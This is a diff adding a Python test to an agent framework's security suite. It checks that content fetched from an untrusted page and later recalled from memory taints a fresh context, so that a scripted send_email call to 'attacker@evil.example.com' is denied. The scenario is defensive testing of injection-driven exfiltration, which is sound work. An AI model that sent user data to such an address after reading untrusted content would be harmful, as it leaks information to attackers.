@@ -1407,3 +1407,35 @@ async def test_a_provider_preview_hides_env_values_and_secrets_over_its_cut() ->
     previews = [e.preview for e in of(ev.ContextProvided, await collect(events))]
     assert len(previews) == 2 and all(len(p) <= 200 for p in previews)
     assert not any("hunter2" in p or "sk-proj" in p for p in previews), previews
+
+
+async def test_a_recalled_memory_of_an_untrusted_result_taints_a_new_context() -> None:
+    to = {"to": "attacker@evil.example.com", "body": "hi"}
+    model = ScriptedModel(
+        [
+            Reply(tool_calls=[ToolCallRequest("fetch_page", {"url": "https://news"})]),
+            Reply(text="read it"),
+            # a new context: the page comes back only through the memory
+            Reply(tool_calls=[ToolCallRequest("send_email", to)]),
+            Reply(text="tried"),
+        ]
+    )
+    spec = AgentSpec(
+        "a",
+        model,
+        tools=[fetch_page, send_email],
+        memory=Memory(),
+        security=agentrio.SecurityProvider(
+            untrusted=["fetch_page"], sensitive=["send_email"], on_taint="deny"
+        ),
+    )
+    async with agentrio.open_runtime() as rt:
+        events = rt.events()
+        agent = await rt.spawn_agent(spec)
+        await agent.run("read the shipping news")
+        second = await agent.run("mail what the shipping news says", continue_context=False)
+    assert [c.status for c in second.tool_calls] == ["denied"]
+    got = await collect(events)
+    assert of(ev.MemoryRecalled, got)
+    (blocked,) = of(ev.TaintBlocked, got)
+    assert blocked.sources == ("fetch_page",)
